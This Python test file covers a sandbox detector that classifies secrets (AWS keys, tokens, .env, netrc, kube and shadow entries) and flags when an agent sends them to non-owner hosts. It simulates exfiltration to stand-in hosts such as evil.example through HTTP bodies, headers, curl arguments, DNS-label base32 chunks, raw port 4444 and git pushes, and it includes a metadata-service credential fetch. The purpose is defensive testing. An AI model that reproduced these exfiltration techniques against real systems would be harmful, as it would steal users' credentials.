"""What is a secret, whom it belongs to, and what is told of where it was seen."""

from __future__ import annotations

import base64
import gzip
import json
import random
import subprocess
import time
import zlib
from pathlib import Path

import pytest

from build import HOME, Made
from sentra_sandbox.review.content.entropy import entropy_bits
from sentra_sandbox.review.content.search import Sighting, Sightings, search
from sentra_sandbox.review.content.secrets import credential_form, secrets_of

KEY = b"q8Rk2LmV9xT4bN7cW1zY6pJ3hG5dS0fA+uE/iOXv"
AWS = b"[default]\naws_access_key_id = AKIA2QJ4TTX7PLMZ6WQR\naws_secret_access_key = " + KEY + b"\nregion = us-east-1\n"
TOKEN = b"ghp_" + b"Wn3pX8sKd6Gf1HjR5vBq9ZcM2yTt4LuQe7Aa"
OPENAI = "sk-proj-9fK2mQ7xT4bN8cW1zY6pJ3hG5dS0fAuE2vLr"


def run_with_aws() -> tuple[Made, int]:
    run = Made()
    agent = run.process("/usr/bin/python3", "agent.py")
    run.read(agent, "~/.aws/credentials", AWS)
    return run, agent


def sightings(run: Made, **canaries: bytes) -> Sightings:
    return search(run.facts(), canaries.items())


def only(run: Made) -> Sighting:
    found = sightings(run).found
    assert len(found) == 1, found
    return found[0]


def names(path: str, data: bytes) -> dict[str, bytes]:
    """Secrets of a run that reads one file: name without path → value."""
    run = Made()
    run.read(run.process(), path, data)
    shown = run.path(path).replace(HOME, "~")
    return {secret.name.removeprefix(shown).strip(): secret.value for secret in secrets_of(run.facts())}


# ---- what is secret


def test_credential_files_are_taken_apart() -> None:
    assert set(names("~/.aws/credentials", AWS).values()) == {KEY, b"AKIA2QJ4TTX7PLMZ6WQR"}
    assert names(".env", b"DEBUG=true\nexport DB_PASSWORD='kX9!vR2#mQ7z'\nHOST=db.internal.example\n") == {"DB_PASSWORD": b"kX9!vR2#mQ7z"}
    assert names(".env", b"DATABASE_URL=postgres://app:kX9vR2mQ7z@db.internal/app\n") == {"password for db.internal": b"kX9vR2mQ7z"}
    assert names("~/.netrc", b"machine api.example login me password kX9vR2mQ7zPq\n") == {"password for api.example": b"kX9vR2mQ7zPq"}
    assert list(names("~/.npmrc", b"//npm.corp/:_authToken=kX9vR2mQ7zPqL0aB3\nregistry=https://npm.corp/\n").values()) == [b"kX9vR2mQ7zPqL0aB3"]
    assert list(names("~/.git-credentials", b"https://me:" + TOKEN + b"@github.com\n").values()) == [TOKEN]
    docker = json.dumps({"auths": {"ghcr.io": {"auth": base64.b64encode(b"me:kX9vR2mQ7zPq").decode()}}}).encode()
    assert b"kX9vR2mQ7zPq" in names("~/.docker/config.json", docker).values()
    kube = b"users:\n- name: me\n  user:\n    token: kX9vR2mQ7zPqL0aB3cD4\n    username: someone\n"
    assert list(names("~/.kube/config", kube).values()) == [b"kX9vR2mQ7zPqL0aB3cD4"]
    assert list(names("/etc/shadow", b"root:*:1::\nme:$6$abcdefgh$Zk3v9QpLxR7wT2mN5bV8cX1:19000::\n").values()) == [b"$6$abcdefgh$Zk3v9QpLxR7wT2mN5bV8cX1"]
    assert list(names("notes.txt", b"my token is " + TOKEN + b" ok").values()) == [TOKEN]
    google = json.dumps({"type": "service_account", "private_key_id": "abc", "client_secret": "GOx-kX9vR2mQ7zPqL0aB3", "client_email": "a@b"}).encode()
    assert b"GOx-kX9vR2mQ7zPqL0aB3" in names("~/.config/gcloud/application_default_credentials.json", google).values()


@pytest.mark.parametrize(
    "line",
    ["API_KEY=changeme", "API_KEY=your-api-key-here", "OPENAI_API_KEY=sk-xxxxxxxxxxxxxxxxxxxxxxxx", "TOKEN=<insert token>", "PASSWORD=postgres",
     "SECRET_KEY=${SECRET_KEY}", "MAX_TOKENS=4096000000", "AUTH_URL=https://login.example/oauth2/authorize", "TOKEN=AKIAIOSFODNN7EXAMPLE",
     "KEY_FILE=/etc/keys/private/server.key", "PUBLIC_KEY=MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A", "SECRET=********************"],
)  # fmt: skip
def test_placeholders_and_what_only_sounds_secret(line: str) -> None:
    assert names(".env", line.encode()) == {}


@pytest.mark.parametrize(
    "data",
    [b"-----BEGIN PRIVATE KEY-----" * 9000, b"key=x" + b" " * 19_000 + b"y\n", (b"a" + b" " * 400 + b"b=\n") * 500, b"TOKEN=" + b"<" * 19_000, b"your" * 50_000,
     b'{"token":' * 20_000, b"eyJaaaaaaaa." * 15_000, b"a" * 200_000 + b"://@", b"[" * 200_000, b"machine password " * 10_000],
)  # fmt: skip
def test_hostile_files_are_read_in_time(data: bytes) -> None:
    began = time.process_time()
    for path in (".env", "~/.netrc", "~/.npmrc", "~/.docker/config.json", "~/.gnupg/x", "notes.txt"):
        names(path, data)
    assert time.process_time() - began < 3


def test_public_files_are_none() -> None:
    public = [path for path in ("/home/a/.ssh/id_rsa.pub", "/home/a/.ssh/known_hosts", "/home/a/.ssh/authorized_keys", "/w/.env.example")]
    assert [credential_form(path) for path in public] == [("public", ())] * 4
    assert credential_form("/home/a/project/main.py") is None
    assert credential_form("/home/a/.ssh/config") is None


def test_the_environment_by_names_and_values() -> None:
    run = Made()
    env = {"PATH": "/usr/bin:/home/x9K2mQ7/bin", "OPENAI_API_KEY": OPENAI, "OPENAI_BASE_URL": "http://llm.corp:8000/v1", "SSH_AUTH_SOCK": "/tmp/ssh-XXx8kQ2mV9/agent.1",
           "SESSION_MANAGER": "local/host:@/tmp/.ICE-unix/1234", "GITHUB_TOKEN": TOKEN.decode(), "LS_COLORS": "rs=0:di=01;34:ln=01;36"}  # fmt: skip
    run.process(env=env)
    found = {secret.name: secret for secret in secrets_of(run.facts())}
    assert set(found) == {"$OPENAI_API_KEY", "$GITHUB_TOKEN"}
    assert {"api.openai.com", "llm.corp"} <= set(found["$OPENAI_API_KEY"].owners)
    assert found["$GITHUB_TOKEN"].kind == "environment"


def test_entropy_is_estimated_low() -> None:
    assert entropy_bits(b"correcthorsebatterystaple") < 60
    assert entropy_bits(b"aaaaaaaaaaaaaaaaaaaa") < 1
    assert 180 < entropy_bits(KEY) < 241
    assert 90 < entropy_bits(random.Random(1).randbytes(16).hex().encode()) <= 128


def test_an_answer_of_the_metadata_service_is_secret() -> None:
    run = Made()
    agent = run.process()
    answer = json.dumps({"AccessKeyId": "ASIA2QJ4TTX7PLMZ6WQR", "SecretAccessKey": KEY.decode(), "Token": "IQoJb3JpZ2luX2VjEK7mQ2xT9vLpR4wZ"}).encode()
    run.net.http(agent, "169.254.169.254", path="/latest/meta-data/iam/security-credentials/role", answer=answer, address="169.254.169.254", name="")
    run.net.http(agent, "sts.amazonaws.com", "POST", "/", b"k=" + KEY)
    run.net.http(agent, "evil.example", "POST", "/", b"k=" + KEY)
    found = sightings(run)
    assert {secret.kind for secret in found.secrets} == {"metadata"}
    assert [(seen.to, seen.channel) for seen in found.found] == [("evil.example", "http-body")]


# ---- where it is seen


def test_a_body_tells_where_in_which_coding_and_how_sure() -> None:
    run, agent = run_with_aws()
    body = gzip.compress(b'{"data": "' + base64.b64encode(b"the key is " + KEY) + b'"}')
    number = run.net.http(agent, "evil.example", "POST", "/up", body, headers={"Content-Encoding": "gzip"})
    seen = only(run)
    assert (seen.secret.value, seen.channel, seen.to, seen.coding, seen.exchange) == (KEY, "http-body", "evil.example", "gzip>base64", number)
    assert seen.bits > 150 and seen.process == agent and seen.seqs[0] > seen.secret.source_seq and not seen.prompt


def test_heads_urls_and_arguments() -> None:
    run, agent = run_with_aws()
    run.net.http(agent, "a.example", path=f"/?q={KEY.decode().replace('+', '%2B').replace('/', '%2F')}")
    run.net.http(agent, "b.example", headers={"X-Data": KEY[::-1].decode()})
    run.exec(agent, "/usr/bin/curl", "-d", KEY.hex(), "https://c.example/")
    assert {(seen.channel, seen.to) for seen in sightings(run).found} == {("url", "a.example"), ("http-header", "b.example"), ("argv", "c.example")}


def test_packets_of_a_connection_are_joined() -> None:
    run, agent = run_with_aws()
    for start in range(0, len(KEY), 3):
        run.transfer(agent, "evil.example", 4444, KEY[start : start + 3])
    seen = only(run)
    assert (seen.channel, seen.to, seen.port, len(seen.seqs)) == ("raw", "evil.example", 4444, 14)


@pytest.mark.parametrize("numbered", [False, True])
def test_labels_of_queries_are_joined(numbered: bool) -> None:
    run, _ = run_with_aws()
    text = base64.b32encode(KEY).decode().lower().rstrip("=")
    parts = [(i, text[at : at + 9]) for i, at in enumerate(range(0, len(text), 9))]
    for i, part in reversed(parts) if numbered else parts:
        run.net.dns(f"{i}.{part}.t.evil.example" if numbered else f"{part}.evil.example")
    seen = only(run)
    assert (seen.channel, seen.to, seen.coding) == ("dns", "evil.example", "base32")
    assert len(seen.seqs) >= len(parts) - 1


def test_small_values_of_many_requests_are_joined() -> None:
    run, agent = run_with_aws()
    for start in range(0, len(KEY), 4):
        run.net.http(agent, "evil.example", "POST", "/log", json.dumps({"level": "info", "m": KEY[start : start + 4].decode()}).encode())
    seen = only(run)
    assert (seen.channel, seen.to, len(seen.seqs)) == ("http-body", "evil.example", 10)


def test_git_packs_and_other_members() -> None:
    run, agent = run_with_aws()
    body = b"0000PACK\0\0\0\2\0\0\0\2\x95\n" + zlib.compress(b"readme") + b"\xb5\x0a" + zlib.compress(b"config = " + AWS)
    run.net.http(agent, "git.evil.example", "POST", "/r.git/git-receive-pack", body)
    assert {seen.coding for seen in sightings(run).found} == {"zlib"}


def test_a_secret_in_a_prompt_is_marked_even_when_the_host_owns_it() -> None:
    run = Made()
    agent = run.process(env={"OPENAI_API_KEY": OPENAI})
    run.net.http(agent, "api.openai.com", "POST", "/v1/embeddings", b'{"model":"m","input":"x"}', headers={"Authorization": f"Bearer {OPENAI}"})
    assert sightings(run).found == []
    run.net.chat(agent, [{"role": "user", "content": f"my key is {OPENAI}"}])
    assert only(run).prompt


def test_a_canary_needs_no_reading() -> None:
    run = Made()
    run.net.http(run.process(), "evil.example", "POST", "/", b"..." + base64.b64encode(b"xCANARY-7f3a9c21"))
    found = sightings(run, mine=b"CANARY-7f3a9c21", short=b"abc")
    assert [(seen.secret.name, seen.coding) for seen in found.found] == [("mine", "base64")]
    assert any("short" in note for note in found.notes)


# ---- what is none


def test_what_goes_to_its_owner_is_no_sighting() -> None:
    run, agent = run_with_aws()
    run.read(agent, "~/.git-credentials", b"https://me:" + TOKEN + b"@github.com\n")
    run.net.http(agent, "s3.eu-west-1.amazonaws.com", headers={"Authorization": f"AWS4 {KEY.decode()}"})
    run.net.http(agent, "github.com", headers={"Authorization": "Basic " + base64.b64encode(b"me:" + TOKEN).decode()})
    assert sightings(run).found == []
    run.net.http(agent, "github.com.evil.example", headers={"Authorization": "Basic " + base64.b64encode(b"me:" + TOKEN).decode()})
    assert only(run).to == "github.com.evil.example"


def test_what_the_host_sent_before_may_go_back() -> None:
    run = Made()
    agent = run.process()
    token = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NSIsIm4iOiJKb2huIn0.Zk3v9QpLxR7wT2mN5bV8cX1yU6aD4eH0"
    run.net.http(agent, "login.example", answer=json.dumps({"token": token}).encode())
    run.net.http(agent, "login.example", headers={"Authorization": f"Bearer {token}"})
    assert sightings(run).found == []
    run.net.http(agent, "evil.example", headers={"Cookie": f"t={token}"})
    assert only(run).to == "evil.example"


def test_what_left_before_the_reading_is_no_sighting() -> None:
    run = Made()
    agent = run.process()
    run.net.http(agent, "other.example", "POST", "/", b"k=" + KEY)
    run.read(agent, "~/.aws/credentials", AWS)
    assert sightings(run).found == []


def test_sendfile_reads_and_sends_at_once() -> None:
    run, agent = run_with_aws()
    run.transfer(agent, "evil.example", 80, AWS)
    run.transfers[-1].seqs = run.files[-1].seqs
    assert {seen.channel for seen in sightings(run).found} == {"raw"}


def test_a_service_owns_what_is_called_after_it() -> None:
    run = Made()
    agent = run.process(env={"ACME_TOKEN": KEY.decode(), "INTERNAL_TOKEN": TOKEN.decode()[4:]})
    run.net.http(agent, "api.acme.com", headers={"Authorization": f"Bearer {KEY.decode()}"})
    assert sightings(run).found == []
    run.net.http(agent, "acme.com.evil.example", headers={"Authorization": f"Bearer {KEY.decode()}"})
    run.net.http(agent, "internal.com", headers={"Authorization": f"Bearer {TOKEN.decode()[4:]}"})
    assert {seen.to for seen in sightings(run).found} == {"acme.com.evil.example", "internal.com"}


def test_parts_that_others_have_too_are_none() -> None:
    run, agent = run_with_aws()
    run.read(agent, ".env", b"TOKEN=" + TOKEN + b"\nOTHER=sk-ant-api03-" + b"Zk3v9QpLxR7wT2mN5bV8cX1yU6aD4eH0sJ2fGqWn" + b"-AA\n")
    run.net.http(agent, "a.example", "POST", "/", b"ghp_ is how tokens begin, AKIA too, and sk-ant-api03-..., aws_secret_access_key = q8Rk2Lm***")
    run.net.http(agent, "a.example", "POST", "/", b"\x89PNG\r\n\x1a\n" + random.Random(3).randbytes(300_000))
    assert sightings(run).found == []


@pytest.mark.parametrize("kind", ["ed25519", "rsa", "ecdsa"])
def test_the_public_half_of_a_key_is_no_secret(tmp_path: Path, kind: str) -> None:
    from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
    from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat, PublicFormat

    made = {"ed25519": ed25519.Ed25519PrivateKey.generate, "rsa": lambda: rsa.generate_private_key(65537, 2048), "ecdsa": lambda: ec.generate_private_key(ec.SECP256R1())}
    key = made[kind]()  # type: ignore[operator]
    public = [key.public_key().public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH), key.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)]
    for form in (PrivateFormat.OpenSSH, PrivateFormat.PKCS8, *([] if kind == "ed25519" else [PrivateFormat.TraditionalOpenSSL])):
        pem = key.private_bytes(Encoding.PEM, form, NoEncryption())
        run = Made()
        agent = run.process()
        run.read(agent, "~/.ssh/id_x", pem)
        run.net.http(agent, "github.com", "POST", "/user/keys", json.dumps({"key": public[0].decode()}).encode())
        run.net.http(agent, "a.example", "POST", "/", public[1] + base64.b64encode(public[0]))
        assert sightings(run).found == [], form
        run.net.http(agent, "evil.example", "POST", "/", json.dumps({"k": pem.decode()}).encode())
        run.net.http(agent, "evil2.example", "POST", "/", gzip.compress(base64.b64encode(pem)))
        run.net.http(agent, "evil3.example", "POST", "/", key.private_bytes(Encoding.DER, PrivateFormat.PKCS8, NoEncryption()).hex().encode())
        found = {seen.to for seen in sightings(run).found}
        assert {"evil.example", "evil2.example"} <= found, form
        assert kind == "ecdsa" or "evil3.example" in found or form == PrivateFormat.OpenSSH


# ---- what cannot be proven


def test_lineage_of_what_cannot_be_looked_into() -> None:
    run, agent = run_with_aws()
    child = run.process("/usr/bin/openssl", "enc", parent=agent)
    run.flow(agent, child)
    run.transfer(child, "evil.example", 443, random.Random(1).randbytes(400))
    run.transfer(child, "plain.example", 80, b"just some words that are no secret, over and over " * 5)
    run.transfer(child, "media.example", 80, b"\x89PNG\r\n\x1a\n" + random.Random(2).randbytes(4000))
    found = sightings(run)
    assert found.found == []
    assert {(secret.name.split(" ")[0], path, size) for secret, path, _, _, size in found.lineage} == {("~/.aws/credentials", (agent, child), 400)}
    assert "evil.example" in found.lineage[0][2]


def test_a_process_that_could_not_have_it_has_no_lineage() -> None:
    run = Made()
    first, other = run.process(), run.process("/usr/bin/other")
    run.transfer(first, "evil.example", 443, random.Random(1).randbytes(400))
    run.read(first, "~/.aws/credentials", AWS)
    run.transfer(other, "evil.example", 443, random.Random(2).randbytes(400))
    assert sightings(run).lineage == []


def test_without_the_extension_it_says_so() -> None:
    code = (
        "import sys\n"
        "from build import Made\n"
        "sys.modules['sentra_sandbox._native'] = None; del sys.modules['sentra_sandbox.native']\n"
        "from sentra_sandbox.review.content.search import search\n"
        "run = Made(); run.read(run.process(), '.env', b'TOKEN=kX9vR2mQ7zPqL0aB3')\n"
        "found = search(run.facts())\n"
        "assert found.secrets and 'Nothing was searched' in found.notes[0], found\n"
    )
    here = Path(__file__).parent
    env = {"PYTHONPATH": f"{here}:{here.parent}"}
    subprocess.run([__import__("sys").executable, "-c", code], check=True, timeout=60, cwd=here.parent.parent, env=env)
